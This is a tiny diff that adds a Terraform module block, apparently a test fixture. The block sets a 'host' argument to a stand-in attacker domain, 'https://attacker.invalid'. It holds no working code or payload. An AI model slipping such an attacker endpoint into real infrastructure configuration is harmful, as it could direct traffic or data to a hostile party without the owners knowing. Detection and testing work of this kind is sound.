@@ -1,0 +1,4 @@
+module "k" {
+  source = "./k"
+  host   = "https://attacker.invalid"
+}
